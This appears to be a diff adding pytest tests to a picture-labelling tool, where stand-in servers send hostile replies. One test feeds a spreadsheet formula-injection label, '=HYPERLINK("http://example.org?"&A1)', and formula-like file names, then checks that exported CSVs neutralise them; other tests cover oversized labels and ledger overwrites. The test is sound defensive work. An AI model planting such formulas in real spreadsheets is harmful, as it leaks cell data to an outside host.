@@ -1,15 +1,23 @@
 """Servers that send what no honest one would: the run ends in one line, and its files can be read by anything."""
 
+import csv
 import json
 import shutil
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import closing, contextmanager
 from pathlib import Path
 
+import numpy as np
 import pytest
 from aiohttp import web
 from conformance.vendors import served
 from workshop import run, write_pictures, write_profile
+
+from looktwice.asking.ledger import stats
+from looktwice.labelling.labels import Click, Labels
+from looktwice.pictures.collection import read_truths
+from looktwice.pictures.image import encode_png
+from looktwice.verdicts import review
 
 
 @contextmanager
@@ -95,3 +103,53 @@ def test_a_zero_character_is_no_label_in_any_ledger(tmp_path: Path) -> None:
     assert "Traceback" not in said
     messages = [json.loads(line)["message"] for line in (tmp_path / "verdicts.jsonl").read_text().splitlines()]
     assert all("where a label should be" in message for message in messages)
+
+
+def test_a_spreadsheet_runs_neither_a_label_nor_a_name_and_looktwice_reads_both_as_they_are(tmp_path: Path) -> None:
+    label = '=HYPERLINK("http://example.org?"&A1)'
+    names = ["-1+1.png", "@x.png", "+x.png", "=1+1.png", "'=x.png", "a.png"]
+    (tmp_path / "photos").mkdir()
+    for place, name in enumerate(names):
+        (tmp_path / "photos" / name).write_bytes(encode_png(np.full((8, 8, 3), 40 * place, np.uint8)))
+    reply = web.json_response({"label": label})
+    out, ledger, photos = tmp_path / "verdicts.csv", tmp_path / "ledger.db", tmp_path / "photos"
+    with answering(tmp_path, reply, label="label") as profile:
+        done = run("score", photos, "-p", profile, "--ledger", ledger, "-o", out)
+    assert done.returncode == 0, done.stderr
+    exported = run("ledger", "export", tmp_path / "answers.csv", "--ledger", ledger, "--pictures", photos)
+    assert exported.returncode == 0, exported.stderr
+    with closing(Labels(tmp_path / "labels.csv")) as labels:
+        for name in names:
+            labels.add(Click(id=name.encode().hex(), window="w", file=name, says="label", labels=(label,)))
+    for path in (out, tmp_path / "answers.csv", tmp_path / "labels.csv"):
+        with path.open(newline="", encoding="utf-8") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert any(label in cell for cell in cells)
+        assert not [cell for cell in cells if cell[:1] in {*"=+-@\t\r"}]
+    assert sorted((found.name, found.label) for found in review.read(out)) == sorted((name, label) for name in names)
+    truths = read_truths(tmp_path / "labels.csv")
+    assert {name: told.truth for name, told in truths.items()} == dict.fromkeys(names, label)
+
+
+def test_a_text_of_megabytes_is_no_label(tmp_path: Path) -> None:
+    with answering(tmp_path, web.json_response({"label": "x" * 5_000_000}), label="label") as profile:
+        code, said = score(profile, "verdicts.csv")
+    assert code == 3
+    assert "has 5,000,000 characters where a label should be" in " ".join(said.split())
+    assert sum(path.stat().st_size for path in tmp_path.glob("*") if path.suffix != ".ballast") < 1_000_000
+
+
+def test_no_result_takes_the_place_of_a_ledger(tmp_path: Path) -> None:
+    ledger = tmp_path / "ledger.csv"
+    with answering(tmp_path, web.json_response({"label": "ant"}), label="label") as profile:
+        words = ("-p", profile, "--ledger", ledger, "--canaries", 0)
+        first = run("score", tmp_path / "pictures.npz", *words, "-o", ledger)
+        assert first.returncode == 1, first.stderr
+        assert run("score", tmp_path / "pictures.npz", *words, "-o", tmp_path / "verdicts.csv").returncode == 0
+    for tried in (
+        run("score", tmp_path / "pictures.npz", *words, "-o", ledger),
+        run("ledger", "export", ledger, "--ledger", ledger),
+    ):
+        assert tried.returncode == 1
+        assert "is a ledger or another database, which is not replaced" in " ".join(tried.stderr.split())
+    assert sum(day.answered for day in stats(ledger)) == 10
